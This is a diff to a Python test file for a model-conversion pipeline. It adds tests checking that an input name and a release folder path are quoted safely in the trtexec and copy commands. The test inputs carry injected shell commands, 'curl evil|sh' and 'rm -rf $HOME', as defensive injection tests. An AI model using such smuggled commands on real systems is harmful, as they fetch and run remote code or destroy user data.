@@ -1,7 +1,11 @@
+import shlex
+from pathlib import Path
+
 import msgspec
 import pytest
 
 from converters.errors import CompileFailed
+from converters.pipeline.coral import command_for
 from converters.planning.methods import METHODS
 from converters.release.device_build import as_device_build, provider_options, trtexec_command
 from converters.release.draft import Draft
@@ -103,6 +107,21 @@ def test_the_command_builds_by_hand_what_the_plan_says() -> None:
     assert "--stronglyTyped" in trtexec_command(built("strong"))
     # trtexec refuses shapes of a model whose sizes are all fixed.
     assert "Shapes" not in trtexec_command(built("strong", FIXED))
+
+
+def test_the_name_of_an_input_is_no_command_of_the_shell() -> None:
+    hostile = Draft(FREE.manifest, {"input": "x;curl evil|sh;"}, {}, AxisRange(min=1, max=8))
+
+    words = shlex.split(trtexec_command(built("weak", hostile)))
+
+    assert "--minShapes=x;curl evil|sh;:1x3x8x8" in words
+
+
+def test_the_folder_of_a_release_is_one_word_of_the_shell() -> None:
+    words = shlex.split(command_for(b"", Path("out; rm -rf $HOME")))
+
+    assert words[0] == "cp"
+    assert words[1].startswith("out; rm -rf $HOME/blobs/sha256/")
 
 
 def test_an_axis_without_bounds_is_refused_with_the_remedy() -> None:
